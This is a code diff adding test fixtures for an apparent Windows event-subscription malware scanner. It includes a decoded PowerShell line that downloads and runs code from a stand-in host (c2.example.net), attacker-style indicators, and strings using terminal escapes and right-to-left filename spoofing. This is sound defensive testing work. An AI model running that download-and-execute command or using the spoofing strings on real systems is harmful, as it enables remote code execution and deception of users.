@@ -122,6 +122,46 @@ export const sampleReport: ScanReport = {
   ],
 };
 
+/** The sample with a judged subscription: layers, every kind of indicator, reasons. */
+export const judgedReport: ScanReport = {
+  ...sampleReport,
+  summary: { ...sampleReport.summary, subscriptions: { malicious: 1, suspicious: 0, unknown: 0, benign: 1 } },
+  subscriptions: [
+    {
+      ...planted,
+      action: {
+        ...planted.action,
+        decoded: [{ encoding: "base64-utf16le", text: "IEX (irm 'https://c2.example.net/a?b=1')" }],
+        indicators: [
+          { type: "url", value: "https://c2.example.net/a?b=1" },
+          { type: "domain", value: "c2.example.net" },
+          { type: "ip", value: "192.0.2.44" },
+          { type: "ip", value: "10.0.0.1" },
+          { type: "ip", value: "2001:db8::1" },
+          { type: "email", value: "a@example.net" },
+          { type: "hash", value: "ab".repeat(32) },
+          { type: "path", value: "C:\\ProgramData\\a.ps1" },
+          { type: "file-name", value: "a.exe" },
+          { type: "registry-key", value: "HKLM\\Software\\X" },
+          { type: "user-agent", value: "Mozilla/5.0" },
+          { type: "named-pipe", value: "\\\\.\\pipe\\x" },
+          { type: "port", value: "4444" },
+        ],
+      },
+      verdict: {
+        level: "malicious",
+        score: 85,
+        reasons: [
+          { id: "hidden-code", weight: 30, text: "The payload hides code.", sightings: [0, 1] },
+          { id: "common", weight: -15, text: "The same on 9 of 10 hosts.", sightings: [] },
+        ],
+      },
+      attack: ["T1546.003", "T1027", "T1027.011", "T1059.001"],
+    },
+    windowsOwn,
+  ],
+};
+
 const NASTY = [
   "\u001b[2J\u001b]0;x\u0007",
   "\u202egpj.exe",
@@ -165,6 +205,17 @@ const ref = fc.record(
   { path: hostileText, offset: fc.nat(), recordId: hostileText },
   { requiredKeys: ["path", "offset"] },
 );
+const indicatorType = fc.constantFrom(
+  "url",
+  "domain",
+  "ip",
+  "email",
+  "hash",
+  "path",
+  "file-name",
+  "registry-key",
+  "port",
+);
 const properties = fc.dictionary(
   hostileText,
   fc.oneof(hostileText, fc.integer(), fc.boolean(), fc.array(hostileText)),
@@ -205,7 +256,9 @@ const hostileSubscription = fc.record({
     kind: hostileText,
     summary: hostileText,
     decoded: fc.array(fc.record({ encoding: hostileText, text: hostileText }), { maxLength: 2 }),
-    indicators: fc.array(fc.record({ type: hostileText, value: hostileText }), { maxLength: 2 }),
+    indicators: fc.array(fc.record({ type: fc.oneof(hostileText, indicatorType), value: hostileText }), {
+      maxLength: 3,
+    }),
   }),
   verdict: fc.record({
     level: fc.constantFrom("malicious", "suspicious", "unknown", "benign"),
